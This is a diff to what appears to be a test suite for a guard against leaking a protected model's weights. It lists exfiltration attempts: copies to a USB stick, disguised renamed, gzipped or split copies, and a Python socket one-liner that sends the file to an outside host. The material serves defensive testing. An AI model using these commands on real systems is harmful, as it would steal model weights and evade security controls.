@@ -5,7 +5,7 @@ Commands run under `bash -c` with: MODEL the protected model, PLAIN an unclassif
 made before the model was registered, WORK a scratch folder on disk, STICK the stick, STRANGER and APPROVED the
 addresses outside, CA the receiver's certificate. `prepare` may produce derived files; only `command` is judged.
 """
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 
 SEND = ("/usr/bin/python3 -c 'import socket,sys; s=socket.create_connection((sys.argv[1],9000)); "
         "s.sendall(open(sys.argv[2],\"rb\").read()); s.close()'")
@@ -20,6 +20,7 @@ class Attempt:
     sink: str              # "removable" or "network"
     command: str
     prepare: str = ":"
+    names: int = 0         # empty names that stay on the stick when the command is refused
 
 
 # {file} is $MODEL for the insider and $PLAIN for the control, so that both walk the same ways.
@@ -28,7 +29,9 @@ WAYS = [
     Attempt("mv", "removable", "mv $WORK/moved.bin $STICK/", "cp {file} $WORK/moved.bin"),
     Attempt("dd", "removable", "dd if={file} of=$STICK/dd.bin bs=256K status=none"),
     Attempt("rsync", "removable", "rsync {file} $STICK/"),
-    Attempt("tar c > stick", "removable", "tar cf - -C $(dirname {file}) $(basename {file}) > $STICK/backup.tar"),
+    # The shell, which read nothing, makes the name before tar starts; not one byte follows.
+    Attempt("tar c > stick", "removable", "tar cf - -C $(dirname {file}) $(basename {file}) > $STICK/backup.tar",
+            names=1),
     Attempt("renamed copy", "removable", "cp $WORK/holiday.jpg $STICK/", "cp {file} $WORK/holiday.jpg"),
     Attempt("gzip'd copy", "removable", "cp $WORK/notes.gz $STICK/", "gzip -1 -c {file} > $WORK/notes.gz"),
     Attempt("split piece", "removable", "cp $WORK/part.ab $STICK/", "split -b 1M {file} $WORK/part."),
@@ -36,13 +39,17 @@ WAYS = [
     Attempt("Python socket upload", "network", SEND + " $STRANGER {file}"),
 ]
 
-INSIDER = [Attempt(way.name, way.sink, way.command.replace("{file}", "$MODEL"),
-                   way.prepare.replace("{file}", "$MODEL")) for way in WAYS] + [
+
+def with_file(way, file, prefix=""):
+    return replace(way, name=prefix + way.name, command=way.command.replace("{file}", file),
+                   prepare=way.prepare.replace("{file}", file))
+
+
+INSIDER = [with_file(way, "$MODEL") for way in WAYS] + [
     Attempt("GGUF conversion made before registration", "removable", "cp $GGUF $STICK/"),
 ]
 
-HONEST = [Attempt("unclassified: " + way.name, way.sink, way.command.replace("{file}", "$PLAIN"),
-                  way.prepare.replace("{file}", "$PLAIN")) for way in WAYS] + [
+HONEST = [with_file(way, "$PLAIN", "unclassified: ") for way in WAYS] + [
     Attempt("training: reads the weights, sends 100 KiB of metrics to an approved place", "network",
             TRAIN + " $APPROVED $MODEL"),
 ]
